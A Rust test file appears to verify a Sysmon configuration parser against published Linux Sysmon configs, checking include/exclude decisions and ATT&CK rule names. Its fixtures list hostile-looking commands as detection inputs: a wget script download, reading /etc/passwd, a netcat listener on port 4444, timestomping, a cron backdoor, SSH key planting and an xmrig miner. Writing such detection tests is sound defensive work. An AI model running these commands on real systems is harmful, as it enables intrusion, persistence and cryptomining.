//! Published Sysmon for Linux configs (`configs/real-world/`, see its PROVENANCE.md): every file loads,
//! and hand-written events get the decision and RuleName their authors meant.

use std::path::PathBuf;

use super::super::load_file;
use super::judge;

const PC: u16 = 1;
const NC: u16 = 3;
const PT: u16 = 5;
const RAR: u16 = 9;
const PA: u16 = 10;
const FC: u16 = 11;
const FD: u16 = 23;
const IN: bool = true;
const EX: bool = false;

/// The copies in the repository; every file of [`FILES`] must be there.
fn dir() -> PathBuf {
    PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../configs/real-world"
    ))
}

type Check = (
    u16,
    &'static [(&'static str, &'static str)],
    bool,
    &'static str,
);

const T1105: &str = "TechniqueID=T1105,TechniqueName=Ingress Tool Transfer";

/// (file, events active, events inactive, checks)
type FileChecks = (
    &'static str,
    &'static [u16],
    &'static [u16],
    &'static [Check],
);

const FILES: &[FileChecks] = &[
    (
        "microsoft_MSTIC-Sysmon__linux_configs__main.xml",
        &[PC, NC, PT, RAR, FC, FD],
        &[PA],
        &[
            (
                PC,
                &[
                    ("Image", "/usr/bin/wget"),
                    ("CommandLine", "wget http://203.0.113.5/x.sh"),
                ],
                IN,
                T1105,
            ),
            (
                PC,
                &[
                    ("Image", "/usr/bin/cat"),
                    ("CommandLine", "cat /etc/passwd"),
                ],
                IN,
                "TechniqueID=T1087.001,TechniqueName=Account Discovery: Local Account",
            ),
            (
                PC,
                &[("Image", "/usr/bin/bash"), ("CommandLine", "bash")],
                IN,
                "TechniqueID=T1059.004,TechniqueName=Command and Scripting Interpreter: Unix Shell",
            ),
            (
                PC,
                &[
                    ("Image", "/bin/touch"),
                    ("CommandLine", "touch -r /bin/ls /tmp/x"),
                ],
                IN,
                "TechniqueID=T1070.006,TechniqueName=Indicator Removal on Host: Timestomp",
            ),
            // The Rule needs all of its filters: touch without a time option is not timestomping.
            (
                PC,
                &[("Image", "/bin/touch"), ("CommandLine", "touch /tmp/x")],
                EX,
                "",
            ),
            (
                PC,
                &[
                    ("Image", "/usr/bin/whoami"),
                    ("ParentImage", "/usr/sbin/nginx"),
                ],
                IN,
                "TechniqueID=T1505.003,TechniqueName=Server Software Component: Web Shell",
            ),
            (
                PC,
                &[
                    ("Image", "/usr/bin/whoami"),
                    ("ParentImage", "/usr/sbin/sshd"),
                ],
                EX,
                "",
            ),
            (
                PC,
                &[
                    ("Image", "/usr/bin/ls"),
                    ("CommandLine", "ls -la"),
                    ("ParentImage", "/usr/bin/zsh"),
                ],
                EX,
                "",
            ),
            (
                PC,
                &[("Image", "/usr/bin/nc"), ("CommandLine", "nc -lvp 4444")],
                EX,
                "",
            ),
            (
                NC,
                &[("Image", "/usr/bin/curl"), ("DestinationPort", "443")],
                IN,
                T1105,
            ),
            (NC, &[("Image", "/usr/sbin/sshd")], EX, ""),
            (
                FC,
                &[
                    ("Image", "/usr/bin/vi"),
                    ("TargetFilename", "/etc/cron.d/backdoor"),
                ],
                IN,
                "TechniqueID=T1053.003,TechniqueName=Scheduled Task/Job: Cron",
            ),
            (
                FC,
                &[
                    ("Image", "/usr/bin/vi"),
                    ("TargetFilename", "/home/alice/notes.txt"),
                ],
                EX,
                "",
            ),
            (PT, &[("Image", "/usr/bin/wget")], EX, ""),
            (FD, &[("TargetFilename", "/tmp/x")], EX, ""),
        ],
    ),
    (
        "microsoft_MSTIC-Sysmon__linux_configs__collect-all.xml",
        &[PC, NC, PT, RAR, PA, FC, FD],
        &[2, 7, 12],
        &[
            (PC, &[("Image", "/usr/bin/ls")], IN, ""),
            (NC, &[("Image", "/usr/bin/curl")], IN, ""),
            (PT, &[], IN, ""),
            (RAR, &[("Device", "/dev/sda")], IN, ""),
            (PA, &[("SourceImage", "/usr/bin/gdb")], IN, ""),
            (FC, &[("TargetFilename", "/tmp/x")], IN, ""),
            (FD, &[("TargetFilename", "/tmp/x")], IN, ""),
        ],
    ),
    (
        "0xAnalyst_Sysmon__SysmonForLinux__config.xml",
        &[PC, NC, PT, RAR, FC, FD],
        &[PA],
        &[
            (
                NC,
                &[("Image", "/usr/bin/nc"), ("DestinationPort", "4444")],
                IN,
                T1105,
            ),
            (NC, &[("Image", "/usr/bin/python3")], EX, ""),
            (
                NC,
                &[
                    ("Image", "/usr/sbin/chronyd"),
                    ("DestinationHostname", "xmr.2miners.com"),
                ],
                IN,
                "Crypto Miner Indicators",
            ),
            (
                NC,
                &[("Image", "/opt/app/java"), ("Protocol", "tcp")],
                IN,
                "Java outgoing traffic log4shell",
            ),
            (
                NC,
                &[("Image", "/opt/app/java"), ("Protocol", "udp")],
                EX,
                "",
            ),
            (
                NC,
                &[("Image", "/usr/sbin/nginx"), ("User", "www-data")],
                IN,
                T1105,
            ),
            (
                PC,
                &[("Image", "/usr/bin/getcap"), ("CommandLine", "getcap -r /")],
                IN,
                "TechniqueID=attack.t1083,Capability Discovery",
            ),
            (
                PC,
                &[
                    ("Image", "/usr/bin/xmrig"),
                    ("CommandLine", "xmrig --donate-level=0 -o x"),
                ],
                IN,
                "Crypto Mining Detection",
            ),
            (
                PC,
                &[
                    ("Image", "/usr/bin/ls"),
                    ("ParentImage", "/usr/lib/systemd/systemd"),
                ],
                EX,
                "",
            ),
            (
                PC,
                &[("Image", "/usr/bin/id"), ("ParentImage", "/usr/bin/find")],
                IN,
                "TechniqueID=T1059.004,TechniqueName=Command and Scripting Interpreter: Unix Shell",
            ),
            (
                FC,
                &[("TargetFilename", "/root/.ssh/authorized_keys")],
                IN,
                "TechniqueID=T1098.004,TechniqueName=Account Manipulation: SSH Authorized Keys",
            ),
            (FC, &[("TargetFilename", "/var/log/syslog")], EX, ""),
        ],
    ),
    (
        "QubitSecurity_EDR__plura-v3.1-gtfobins-curated.xml",
        &[PC, NC, PT, RAR, FC, FD],
        &[PA],
        &[
            (
                NC,
                &[("Image", "/usr/bin/nc")],
                IN,
                "NoiseMin_NetworkConnect",
            ),
            (
                NC,
                &[("Image", "/tmp/.x/agent")],
                IN,
                "NoiseMin_NetworkConnect",
            ),
            (
                NC,
                &[("Image", "/usr/local/sbin/plurad")],
                EX,
                "Exclude_PLURA_NetworkConnect",
            ),
            // An include and an exclude entry and no match: excluded.
            (NC, &[("Image", "/usr/bin/curl")], EX, ""),
            (
                PT,
                &[("Image", "/dev/shm/x")],
                IN,
                "NoiseMin_ProcessTerminate",
            ),
            (PT, &[("Image", "/usr/bin/ls")], EX, ""),
            (RAR, &[("Device", "/dev/sda")], IN, ""),
            (
                PC,
                &[("Image", "/tmp/payload")],
                IN,
                "Include_Temp_Execution_Linux",
            ),
            (
                PC,
                &[
                    ("Image", "/usr/bin/df"),
                    ("CurrentDirectory", "/etc/plura"),
                    ("CommandLine", "df -h"),
                ],
                EX,
                "PLURA_Execution_Disk Use_df",
            ),
            (PC, &[("Image", "/usr/bin/ls")], EX, ""),
            // Two include entries match: the later one in the file names it (§3.7).
            (
                FC,
                &[("Image", "/usr/bin/curl"), ("TargetFilename", "/tmp/x.sh")],
                IN,
                "Include_GTFOBins_Writers_Linux_Curated",
            ),
            (
                FC,
                &[("Image", "/usr/bin/vim"), ("TargetFilename", "/tmp/x.sh")],
                IN,
                "Include_MalwareDrop_Linux",
            ),
            (
                FC,
                &[
                    ("Image", "/usr/bin/vim"),
                    ("TargetFilename", "/tmp/.x.sh.swp"),
                ],
                EX,
                "Exclude_LegitActivity_Linux",
            ),
            (
                FD,
                &[
                    ("Image", "/usr/bin/rm"),
                    ("TargetFilename", "/home/bob/.bash_history"),
                ],
                IN,
                "NoiseMin_FileDelete",
            ),
            (
                FD,
                &[
                    ("Image", "/usr/bin/dpkg"),
                    ("TargetFilename", "/var/lib/dpkg/tmp.sh"),
                ],
                EX,
                "Exclude_PackageManager_FileDelete_UBUNTU",
            ),
        ],
    ),
    (
        "oz9un_SysmonForLinux-Manual__network_specifications.xml",
        &[PC, NC, PT, RAR, PA, FC, FD],
        &[],
        &[
            // AND across fields, OR within a field: tcp or udp, to port 80 or 443.
            (
                NC,
                &[("Protocol", "tcp"), ("DestinationPort", "443")],
                EX,
                "",
            ),
            (
                NC,
                &[("Protocol", "udp"), ("DestinationPort", "80")],
                EX,
                "",
            ),
            (
                NC,
                &[("Protocol", "tcp"), ("DestinationPort", "22")],
                IN,
                "",
            ),
            (
                NC,
                &[("Protocol", "icmp"), ("DestinationPort", "443")],
                IN,
                "",
            ),
            (PC, &[("Image", "/usr/bin/ping")], EX, ""),
            (FC, &[("TargetFilename", "/tmp/x")], EX, ""),
        ],
    ),
];

#[test]
fn every_real_world_config_loads() {
    let dir = dir();
    let mut seen = 0;
    let entries = std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display()));
    for entry in entries {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "xml") {
            let config = load_file(&path).unwrap_or_else(|e| panic!("{e}"));
            assert!(
                config.warnings.is_empty(),
                "{}: {:?}",
                path.display(),
                config.warnings
            );
            assert!(!config.entries.is_empty(), "{}", path.display());
            seen += 1;
        }
    }
    assert_eq!(
        seen,
        FILES.len(),
        "a config file has no behaviour checks below"
    );
}

#[test]
fn real_world_configs_decide_as_their_authors_meant() {
    let dir = dir();
    let mut failures = Vec::new();
    for (file, active, inactive, checks) in FILES {
        let config = load_file(&dir.join(file)).unwrap_or_else(|e| panic!("{e}"));
        for id in *active {
            if !config.rules.is_active(*id) {
                failures.push(format!("{file}: event {id} should be active"));
            }
        }
        for id in *inactive {
            if config.rules.is_active(*id) {
                failures.push(format!("{file}: event {id} should be inactive"));
            }
        }
        for (id, fields, include, name) in *checks {
            let got = judge(&config, *id, fields);
            if got != (*include, name.to_string()) {
                failures.push(format!(
                    "{file}: event {id} {fields:?}: got {got:?}, want ({include}, {name:?})"
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn qubit_config_sets_every_hash() {
    let dir = dir();
    let config =
        load_file(&dir.join("QubitSecurity_EDR__plura-v3.1-gtfobins-curated.xml")).unwrap();
    assert_eq!(config.schema_version, "4.90");
    let h = config.hash_algorithms;
    assert!(h.sha1 && h.md5 && h.sha256 && config.hash_algorithms_set);
}

/// (file, event id, fields, include, rule name)
type UnitTestCase<'a> = (&'a str, u16, &'a [(&'a str, &'a str)], bool, &'a str);

/// Sysmon's own `UnitTests/data/*.xml` (257 files, spec §7.4) all load. They are not in this
/// repository, so this is ignored by default: point `SYSMON_UNITTEST_DATA` at a copy and run
/// it with `--ignored`.
#[test]
#[ignore = "needs SYSMON_UNITTEST_DATA: a copy of Sysmon's UnitTests/data"]
fn sysmon_unit_test_configs_load() {
    let dir = PathBuf::from(
        std::env::var_os("SYSMON_UNITTEST_DATA")
            .expect("SYSMON_UNITTEST_DATA must point at a copy of Sysmon's UnitTests/data"),
    );
    let mut failures = Vec::new();
    let mut count = 0;
    for entry in std::fs::read_dir(&dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "xml") {
            count += 1;
            if let Err(e) = load_file(&path) {
                failures.push(e.to_string());
            }
        }
    }
    assert!(count > 0, "no .xml file in {}", dir.display());
    assert!(
        failures.is_empty(),
        "{} of {count} failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
    eprintln!("{count} Sysmon unit-test configs loaded");

    // Spec §7.1 cases 37, 40 and 41 on the real files (conformance.rs has stand-ins).
    let signed = ("Signed", "failed: failed: Signing queue is full");
    let omega = "sysmonconfig-export-omega.xml";
    let cases: &[UnitTestCase] = &[
        (
            "sysmon-modular-config.xml",
            7,
            &[
                ("Image", "c:\\file.exe"),
                (
                    "ImageLoaded",
                    "C:\\Windows\\assembly\\NativeImages_v2.0.50727_64\\System.Management.A#\\3256e997418c6c8793821826317b9b9c\\System.Management.Automation.ni.dll",
                ),
            ],
            true,
            "technique_id=T1059.001,technique_name=PowerShell",
        ),
        (
            omega,
            6,
            &[
                (
                    "ImageLoaded",
                    "c:\\Windows\\System32\\drivers\\raspppoe.sys",
                ),
                (
                    "Hashes",
                    "MD5=3DCFC79E16BA9A0DA42D466237F25120,SHA256=2E2630A58C1488ADE720136FE4A3C493A6045F08C3C1EBBB8642C07B0B7C6649,IMPHASH=3E419F563516B0B50BB14CFE54E4F1AC",
                ),
                signed,
            ],
            false,
            "",
        ),
        (
            omega,
            6,
            &[
                (
                    "ImageLoaded",
                    "c:\\Windows\\System32\\drivers\\anydriver.sys",
                ),
                (
                    "Hashes",
                    "10b30bdee43b3a2ec4aa63375577ade650269d25;d2fd132ab7bbc6bbb87a84f026fa0244",
                ),
                signed,
            ],
            true,
            "MR=T1195,Tec=Supply Chain Compromise,Tac=Initial Access,Alert=Vulnerable Dell Drivers Detected,Risk=10",
        ),
        (
            "longnames.xml",
            1,
            &[("Image", "powershell.exe")],
            true,
            "X",
        ),
        ("longnames.xml", 1, &[("Image", "cmd.exe")], true, "Y"),
        ("longnames.xml", 1, &[("Image", "bash.exe")], true, "Z"),
    ];
    for (file, id, fields, include, name) in cases {
        let config = load_file(&dir.join(file)).unwrap();
        // longnames.xml names are one letter repeated 255 times.
        let want = if name.len() == 1 {
            name.repeat(255)
        } else {
            name.to_string()
        };
        assert_eq!(
            judge(&config, *id, fields),
            (*include, want),
            "{file} {fields:?}"
        );
    }
}
